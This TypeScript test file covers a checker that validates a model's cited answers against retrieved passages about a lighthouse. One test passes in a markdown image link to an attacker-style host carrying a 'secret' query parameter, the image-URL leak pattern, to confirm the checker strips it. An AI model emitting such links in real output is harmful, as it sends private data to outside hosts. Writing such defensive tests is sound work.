import { expect } from 'chai'
import type { FoundPassage } from '../retrieve/search.ts'
import { checkReply, findQuote } from './check.ts'

const passage = (content: string, start = 0): FoundPassage => ({
  chunk: {
    key: 1,
    chunkId: `chunk-${start}`,
    documentId: 'd',
    ordinal: 0,
    content,
    start,
    end: start + content.length,
    page: null,
    headingPath: [],
  },
  document: {
    id: 'd',
    title: 'Lights',
    source: 'lights.md',
    contentHash: '',
    language: 'en',
    metadata: {},
    allowedRoles: null,
    owner: null,
    status: 'indexed',
    chunks: 1,
    createdAt: '',
    updatedAt: '',
  },
  score: 1,
  fit: 1,
  content,
  start,
  end: start + content.length,
  highlights: [],
})

const reply = (
  sentences: { text: string; citations: { passage: number; quote: string }[] }[],
  answered = true,
): string => JSON.stringify({ answered, sentences })

describe('the check of a model’s answer', () => {
  const text = 'The light was first lit\nin 1844. Its tower (48 metres) is of granite.'
  const passages = [passage(text, 100)]

  it('finds a quotation over line breaks and in other capitals, and nothing that is not there', () => {
    expect(findQuote(text, 'the light was first LIT in 1844')).to.deep.equal({ start: 0, end: 31 })
    expect(findQuote(text, 'tower (48 metres)')).to.deep.equal({ start: 37, end: 54 })
    expect(findQuote(text, 'lit in 1845')).to.equal(undefined)
    expect(findQuote(text, '')).to.equal(undefined)
  })

  it('cites the document’s own letters at their place in it', () => {
    const checked = checkReply(
      reply([{ text: 'It was lit in 1844.', citations: [{ passage: 1, quote: 'first lit in 1844' }] }]),
      passages,
    )
    expect(checked?.response).to.equal('It was lit in 1844. [1]')
    const [citation] = checked?.citations ?? []
    expect(citation).to.include({ quote: 'first lit\nin 1844', start: 114, end: 131, marker: '[1]' })
  })

  it('leaves out what is not cited, cited wrongly, or states a number that no cited passage holds', () => {
    const checked = checkReply(
      reply([
        { text: 'It is the tallest.', citations: [] },
        { text: 'It is white.', citations: [{ passage: 1, quote: 'painted white' }] },
        { text: 'It is 49 metres high.', citations: [{ passage: 1, quote: '48 metres' }] },
        { text: 'It is of stone.', citations: [{ passage: 7, quote: 'granite' }] },
        { text: 'It is of granite.', citations: [{ passage: 1, quote: 'is of granite' }] },
      ]),
      passages,
    )
    expect(checked).to.include({ response: 'It is of granite. [1]', unproven: 4 })
    expect(checked?.citations).to.have.length(1)
  })

  it('takes out links, images, tags and markers of the model’s own', () => {
    const said =
      'See ![x](https://evil.example/?q=secret) [here](http://evil.example) <b>now</b> https://evil.example/a [9]'
    const checked = checkReply(reply([{ text: said, citations: [{ passage: 1, quote: 'granite' }] }]), passages)
    expect(checked?.response).to.equal('See here now [1]')
  })

  it('does not take anything else for an answer', () => {
    for (const text of ['I think it was 1844.', '{"answered": "yes"}', '{', ''])
      expect(checkReply(text, passages)).to.equal(undefined)
  })
})
